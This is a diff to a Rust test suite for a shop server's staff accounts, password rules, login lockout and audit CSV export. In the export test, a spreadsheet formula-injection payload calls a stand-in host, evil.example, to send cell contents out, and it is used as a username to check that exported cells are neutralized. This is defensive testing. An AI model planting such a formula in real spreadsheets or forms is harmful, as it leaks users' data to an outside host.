@@ -14,23 +14,6 @@ both_stores!(
     audit_verify_endpoint_reports_tampering_in_the_callers_chains,
 );
 
-/// `POST /api/v1/auth/login` with any password.
-async fn try_login(app: &TestApp, user: &str, password: &str) -> (reqwest::Client, Resp) {
-    let http = reqwest::Client::builder().cookie_store(true).build().unwrap();
-    let r = http.post(format!("{}/api/v1/auth/login", app.base)).json(&json!({"username": user, "password": password})).send().await.unwrap();
-    let status = r.status().as_u16();
-    let text = r.text().await.unwrap();
-    let body = serde_json::from_str(&text).unwrap_or(Value::Null);
-    (http, Resp { status, body, text })
-}
-
-/// Log in with a password of the test's choosing.
-async fn login_with(app: &TestApp, user: &str, password: &str) -> Client {
-    let (http, r) = try_login(app, user, password).await;
-    let s: SessionInfo = r.ok();
-    Client { http, base: app.base.clone(), csrf: s.csrf_token, user: s.user }
-}
-
 async fn create(owner: &Client, username: &str, password: &str, perms: &[&str]) -> Resp {
     owner.post("/api/v1/staff", &json!({"username": username, "password": password, "permissions": perms})).await
 }
@@ -69,7 +52,8 @@ async fn owner_manages_staff_and_changes_apply_on_the_next_request(store: Store)
     for bad in ["ab", "Upper", "has space", "=HYPERLINK", &"x".repeat(33)] {
         create(&owner, bad, "long-enough-1", &["view"]).await.err(422, "VALIDATION_FAILED");
     }
-    create(&owner, "s1-short", "short", &["view"]).await.err(422, "VALIDATION_FAILED");
+    create(&owner, "s1-short", "short", &["view"]).await.err(422, "PASSWORD_LENGTH");
+    create(&owner, "s1-named", "S1-Named-Pass", &["view"]).await.err(422, "PASSWORD_CONTAINS_USERNAME");
     create(&owner, "s1-unknown", "long-enough-1", &["fly"]).await.err(422, "VALIDATION_FAILED");
 
     // Taking `reveal` away: the same session's next grant request is refused.
@@ -93,7 +77,8 @@ async fn owner_manages_staff_and_changes_apply_on_the_next_request(store: Store)
 
     // A password reset ends the old sessions; only the new password works.
     let second = login_with(&app, "s1-packer", "packer-pass-1").await;
-    owner.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "short"})).await.err(422, "VALIDATION_FAILED");
+    owner.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "short"})).await.err(422, "PASSWORD_LENGTH");
+    owner.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "12345678"})).await.err(422, "PASSWORD_TOO_COMMON");
     let _: StaffMember = owner.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "new-secret-22"})).await.ok();
     staff.get("/api/v1/me").await.err(401, "UNAUTHENTICATED");
     second.get("/api/v1/me").await.err(401, "UNAUTHENTICATED");
@@ -179,10 +164,12 @@ async fn audit_csv_export_is_filtered_scoped_and_formula_safe(store: Store) {
     let _: StaffMember = create(&owner, "s1-export-b", "export-pass-1", &["view", "reveal"]).await.ok();
     let owner2 = app.login("shop2").await;
     let _: StaffMember = create(&owner2, "s2-export", "export-pass-1", &["view"]).await.ok();
-    // A refused login with a formula for a user name is audited with that actor (platform chain).
+    // A login lock of a name that is a formula is audited with that actor (platform chain).
     let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
-    try_login(&app, evil, "whatever-1").await.1.err(401, "INVALID_CREDENTIALS");
-    try_login(&app, "+SUM(1,2)", "whatever-1").await.1.err(401, "INVALID_CREDENTIALS");
+    lock_out(&app, evil).await;
+    lock_out(&app, "+SUM(1,2)").await;
+    // Twenty failures from this address slow it down too: let that pass.
+    app.clock.advance(orderveil_server::login_throttle::FORGET_SECS);
 
     // The owner's export: BOM, header, the filtered rows of the own shop only.
     let (status, ct, bytes) = get_bytes(&owner, "/api/v1/audit/export.csv?action=staff_create").await;
@@ -216,9 +203,9 @@ async fn audit_csv_export_is_filtered_scoped_and_formula_safe(store: Store) {
     owner.get("/api/v1/audit/export.csv?colour=red").await.err(422, "VALIDATION_FAILED");
     app.login("shop1-ops").await.get("/api/v1/audit/export.csv").await.err(403, "FORBIDDEN");
 
-    // The admin's export of refused logins: formulas are neutralized.
+    // The admin's export of login locks: formulas are neutralized.
     let admin = app.login("admin").await;
-    let (status, _, bytes) = get_bytes(&admin, "/api/v1/audit/export.csv?action=login&outcome=refused").await;
+    let (status, _, bytes) = get_bytes(&admin, "/api/v1/audit/export.csv?action=login_locked&outcome=refused").await;
     assert_eq!(status, 200);
     let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
     let rows: Vec<Vec<String>> = text.split("\r\n").skip(1).filter(|l| !l.is_empty()).map(cells).collect();
@@ -226,7 +213,7 @@ async fn audit_csv_export_is_filtered_scoped_and_formula_safe(store: Store) {
     assert_eq!(rows[0][4], "'+SUM(1,2)");
     assert_eq!(rows[1][4], format!("'{evil}"));
     for row in &rows {
-        assert_eq!((row[6].as_str(), row[7].as_str(), row[8].as_str()), ("login", "refused", "INVALID_CREDENTIALS"));
+        assert_eq!((row[6].as_str(), row[7].as_str(), row[8].as_str()), ("login_locked", "refused", "LOGIN_LOCKED"));
         for cell in row {
             assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "unneutralized cell {cell:?}");
         }
